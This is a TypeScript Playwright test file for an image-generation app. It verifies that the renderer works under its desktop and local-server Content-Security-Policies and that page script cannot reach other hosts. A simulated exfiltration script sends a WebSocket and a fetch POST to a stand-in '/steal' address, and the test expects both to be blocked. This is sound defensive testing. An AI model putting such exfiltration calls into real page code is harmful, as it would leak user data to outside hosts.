// The Content-Security-Policies in a real Chromium: the desktop window's (electron/desktop/studio-protocol.ts's
// header, on top of the page's own <meta> policy; the pages come from the local server with its header replaced
// by the desktop's, as studio:// serves them in Electron) and the local server's own. Under each, the built
// renderer works (an image generated and shown, the gallery, no violation reported), and script in the page
// cannot open a WebSocket or a fetch to another host.
// Page scripts are strings: this file is type-checked with Node's types, not the DOM's.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { chromium, type Browser, type BrowserContext } from 'playwright-core';
import { DESKTOP_CSP } from '../electron/desktop/studio-protocol.ts';
import { CHROMIUM, E2E_MODEL } from './helpers/browser.ts';
import { startStudio, type Studio } from './helpers/studio.ts';

let browser: Browser;
let studio: Studio;

before(async () => {
  // A response Playwright fulfils has no address space of its own: Chromium's local network access checks would
  // then stop the page's WebSocket to the loopback server, whatever the CSP.
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-features=LocalNetworkAccessChecks'],
  });
  studio = await startStudio({ model: E2E_MODEL });
});

after(async () => {
  await browser?.close();
  await studio?.stop();
});

const WATCH_VIOLATIONS = `
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) =>
    window.__violations.push([e.violatedDirective, e.blockedURI, e.sourceFile + ':' + e.lineNumber].join(' ')),
  );
`;

/** What page script gets when it tries to reach another host: 'blocked' by the CSP, or 'allowed'. */
const TRY_EXFILTRATION = `(async () => {
  const before = window.__violations.length;
  const results = {};
  try {
    const socket = new WebSocket('ws://198.51.100.7:9/steal');
    socket.onerror = () => undefined;
    await new Promise((done) => setTimeout(done, 200));
    socket.close();
    results.websocket = window.__violations.slice(before).some((v) => v.startsWith('connect-src')) ? 'blocked' : 'allowed';
  } catch (error) {
    results.websocket = error.name === 'SecurityError' ? 'blocked' : 'error ' + error.name;
  }
  const mid = window.__violations.length;
  try {
    await fetch('http://198.51.100.7:9/steal', { method: 'POST', body: 'x', signal: AbortSignal.timeout(500) });
    results.fetch = 'allowed';
  } catch {
    await new Promise((done) => setTimeout(done, 200));
    results.fetch = window.__violations.slice(mid).some((v) => v.startsWith('connect-src')) ? 'blocked' : 'allowed';
  }
  return results;
})()`;

/** Generates an image and opens the gallery with no policy violation, then tries to reach another host. */
async function useAppThenExfiltrate(context: BrowserContext): Promise<unknown> {
  await context.addInitScript(WATCH_VIOLATIONS);
  const page = await context.newPage();
  page.setDefaultTimeout(60_000);
  await page.goto(studio.server.url);
  await page.locator('button.primary:not([disabled])', { hasText: 'Generate' }).waitFor();
  await page.getByLabel('Prompt', { exact: true }).fill('a red circle on a blue background');
  await page.getByRole('button', { name: 'Generate', exact: true }).click();
  const image = page.getByAltText('Generated image 1');
  await image.waitFor();
  // The gallery image from the page's own origin (img-src 'self') loads.
  await page.waitForFunction(`[...document.images].some((i) => i.alt === 'Generated image 1' && i.complete && i.naturalWidth > 0)`);
  await page.getByRole('tab', { name: 'Gallery' }).click();
  await page.getByRole('group', { name: 'Gallery thumbnails' }).locator('img').first().waitFor();
  // zod probes once whether it may compile validators (Function('') in a try): refused by both policies, as meant.
  const violations = (await page.evaluate('window.__violations')) as string[];
  assert.deepEqual(
    violations.filter((v) => !v.startsWith('script-src eval ')),
    [],
    'the app itself stays inside the policy',
  );
  return page.evaluate(TRY_EXFILTRATION);
}

test('the renderer works under the desktop CSP, and page script cannot connect to another host', { timeout: 180_000 }, async () => {
  const context = await browser.newContext();
  try {
    await context.route('**/*', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': DESKTOP_CSP } });
    });
    assert.deepEqual(await useAppThenExfiltrate(context), { websocket: 'blocked', fetch: 'blocked' });
  } finally {
    await context.close();
  }
});

// The local server's pages (a user driving a GPU box from a browser): its own header and the page's <meta> policy.
// connect-src 'self' covers the page's WebSocket to its own server (CSP 3 matches ws: and wss: to the page's
// host and port); it had listed ws: wss:, any host.
test(
  "the local server's own policy: the app works, and page script cannot open a WebSocket to another host",
  { timeout: 180_000 },
  async () => {
    const context = await browser.newContext();
    try {
      assert.deepEqual(await useAppThenExfiltrate(context), { websocket: 'blocked', fetch: 'blocked' });
    } finally {
      await context.close();
    }
  },
);
